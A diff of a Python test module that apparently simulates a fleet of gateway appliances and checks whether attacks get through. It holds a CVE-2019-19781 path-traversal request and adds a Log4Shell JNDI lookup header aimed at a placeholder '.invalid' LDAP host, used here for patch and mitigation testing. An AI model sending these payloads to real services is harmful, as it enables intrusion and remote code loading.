@@ -14,6 +14,7 @@ from contextlib import contextmanager
 from dataclasses import dataclass, field
 from datetime import UTC, date, datetime
 from enum import StrEnum
+from types import MappingProxyType
 from typing import Any
 from unittest import mock
 
@@ -24,6 +25,8 @@ from tests.stage.client import Answer, ask
 
 ATTACK = "/vpn/../vpns/cfg/smb.conf"
 """A published, harmless check of CVE-2019-19781: it reads a static file (TrustedSec scanner, Nuclei template)."""
+LOOK_UP = {"X-Api-Version": "${jndi:ldap://probe.invalid/a}"}
+"""A published form of CVE-2021-44228, for what logs a header; names in .invalid lead nowhere (RFC 2606)."""
 LOG_ON, HOME = "/vpn/index.html", "/"
 ELSEWHERE = "/elsewhere/page"
 """A path that no list allows."""
@@ -57,6 +60,39 @@ def was_never_affected(build: str) -> bool:
     return build.partition(" ")[0] not in FIXED
 
 
+@dataclass(frozen=True)
+class Weakness:
+    """A weakness of which a night knows each attack.
+
+    :ivar id: of the entry of the catalogue; likewise policy, the name of its measure on an appliance
+    :ivar exploit: the first day of public exploit code
+    :ivar version: of its measure
+    :ivar is_behind: it is in what is behind an appliance: no build has it, and none ends it
+    """
+
+    id: str
+    cve: str
+    bulletin: date
+    exploit: date
+    version: int
+    is_behind: bool = False
+
+    @property
+    def policy(self) -> str:
+        return f"tq_{self.id}"
+
+    def is_fixed(self, build: str) -> bool:
+        return not self.is_behind and is_fixed(build)
+
+    def was_never_affected(self, build: str) -> bool:
+        return self.is_behind or was_never_affected(build)
+
+
+PORTAL = Weakness("cve_2019_19781", "CVE-2019-19781", BULLETIN, EXPLOIT, 2)
+BEHIND = Weakness("cve_2021_44228", "CVE-2021-44228", date(2021, 12, 10), date(2021, 12, 10), 1, is_behind=True)
+"""Of Log4j: the page of Apache, and the first public exploit code."""
+
+
 class Got(StrEnum):
     """What a user gets at a service."""
 
@@ -80,7 +116,7 @@ class Place:
 class Sight:
     """What the witness saw between two actions.
 
-    :ivar passes: by place, how an attack got through
+    :ivar passes: by place, how an attack got through; likewise behind, by a look-up for what is behind an appliance
     :ivar got: by place and client, what a user got
     :ivar elsewhere: by place, whether the service itself answers for a path that no list allows
     :ivar managed: by appliance, the indices of the nodes at whose management address an attack got through
@@ -93,18 +129,27 @@ class Sight:
     elsewhere: Mapping[Place, bool]
     managed: Mapping[str, tuple[int, ...]]
     builds: Mapping[str, tuple[str, ...]]
+    behind: Mapping[Place, tuple[str, ...]] = field(default_factory=dict)
 
-    def passed(self, appliance: str) -> tuple[str, ...]:
+    def ways(self, weakness: Weakness = PORTAL) -> Mapping[Place, tuple[str, ...]]:
+        """Return by place how an attack on a weakness got through."""
+        return self.behind if weakness.is_behind else self.passes
+
+    def reached(self, appliance: str, weakness: Weakness) -> tuple[int, ...]:
+        """Return the indices of the nodes at whose management address an attack on a weakness got through."""
+        return () if weakness.is_behind else self.managed[appliance]
+
+    def passed(self, appliance: str, weakness: Weakness = PORTAL) -> tuple[str, ...]:
         """Return where and how an attack got through to an appliance by a virtual server."""
         return tuple(
             f"{place.vserver} {how}"
-            for place, ways in self.passes.items()
+            for place, ways in self.ways(weakness).items()
             if place.appliance == appliance
             for how in ways
         )
 
-    def is_all_fixed(self, appliance: str) -> bool:
-        return all(map(is_fixed, self.builds[appliance]))
+    def is_all_fixed(self, appliance: str, weakness: Weakness = PORTAL) -> bool:
+        return all(map(weakness.is_fixed, self.builds[appliance]))
 
 
 @dataclass(frozen=True)
@@ -127,6 +172,7 @@ def _seen_at(there: Mapping[str, Any], client: str) -> str:
 class World:
     """The fleet as attackers and users meet it.
 
+    :ivar weaknesses: those whose attacks the witness sends
     :ivar builds: by appliance, the build of each node: those of a pair may differ
     :ivar sights: what the witness saw, the earliest first
     :ivar logs_from: the times at which the oldest parts of logs began whose earlier ones newsyslog has removed
@@ -139,6 +185,7 @@ class World:
     break_ins: list[BreakIn] = field(default_factory=list)
     logs_from: set[datetime] = field(default_factory=set)
     _turned_over: dict[tuple[str, int, str], set[datetime]] = field(default_factory=dict)
+    weaknesses: tuple[Weakness, ...] = (PORTAL,)
 
     def running(self, appliance: str) -> Appliance:
         return self.simulator.fleet.appliances[appliance]
@@ -158,8 +205,10 @@ class World:
             got = {(place, client): self._got(place, client) for place in self.places for client in CLIENTS}
             elsewhere = {place: self._answers(self._ask(place, ELSEWHERE, AGENTS[0], INSIDE)) for place in self.places}
             managed = {name: tuple(self._managed(name)) for name in self.builds}
+            known = self.places if BEHIND in self.weaknesses else ()
+            behind = {place: tuple(self._looks_up(place)) for place in known}
         builds = {name: tuple(builds) for name, builds in self.builds.items()}
-        self.sights.append(Sight(at, passes, got, elsewhere, managed, builds))
+        self.sights.append(Sight(at, passes, got, elsewhere, managed, builds, behind))
         return self.sights[-1]
 
     def attack(self, at: datetime, appliance: str) -> bool:
@@ -177,6 +226,26 @@ class World:
                     if self._reaches(place, self._ask(place, ATTACK, agent, client)):
                         yield f"{agent} {client}"
 
+    def look_up(self, appliance: str) -> bool:
+        """Let an attacker send a look-up to each service of an appliance; return whether one got through."""
+        through = [self._is_looked_up(place, AGENTS[0], INSIDE) for place in self.places_of(appliance)]
+        return any(through)
+
+    def _looks_up(self, place: Place) -> Iterator[str]:
+        for agent in AGENTS:
+            for client in CLIENTS:
+                if self._is_looked_up(place, agent, client):
+                    yield f"{agent} {client}"
+
+    def _is_looked_up(self, place: Place, agent: str, client: str) -> bool:
+        """Return whether a look-up got to what logs it: a portal, or a server behind a virtual server, which names itself."""
+        answer = self._ask(place, self._front(place), agent, client, LOOK_UP)
+        return answer.status == 200 if self._is_gateway(place) else "server" in answer.headers
+
+    def _front(self, place: Place) -> str:
+        """Return what a user asks first."""
+        return LOG_ON if self._is_gateway(place) else HOME
+
     def _reaches(self, place: Place, answer: Answer) -> bool:
         """Return whether an attack got to its target: the file of a Gateway, or a server behind another virtual server, which names itself."""
         if self._is_gateway(place):
@@ -188,7 +257,7 @@ class World:
         return self._address(place)["type"] in ("vpn", "authentication")
 
     def _got(self, place: Place, client: str) -> Got:
-        answer = self._ask(place, LOG_ON if self._is_gateway(place) else HOME, AGENTS[0], client)
+        answer = self._ask(place, self._front(place), AGENTS[0], client)
         if answer.status is None:
             return Got.NOTHING
         if answer.status == 503 and "retry-after" in answer.headers:
@@ -214,9 +283,11 @@ class World:
         files = [node.files.get(START_UP) for node in self.running(appliance).nodes]
         return all(file is not None and KNOB in bytes(file.content) for file in files)
 
-    def _ask(self, place: Place, target: str, agent: str, client: str) -> Answer:
+    def _ask(
+        self, place: Place, target: str, agent: str, client: str, headers: Mapping[str, str] = MappingProxyType({})
+    ) -> Answer:
         there = self._address(place)
-        return ask(there, target, client=_seen_at(there, client), headers={"User-Agent": agent})
+        return ask(there, target, client=_seen_at(there, client), headers={"User-Agent": agent, **headers})
 
     def _address(self, place: Place) -> Mapping[str, Any]:
         found = self.simulator.ready["appliances"][place.appliance]["vservers"]
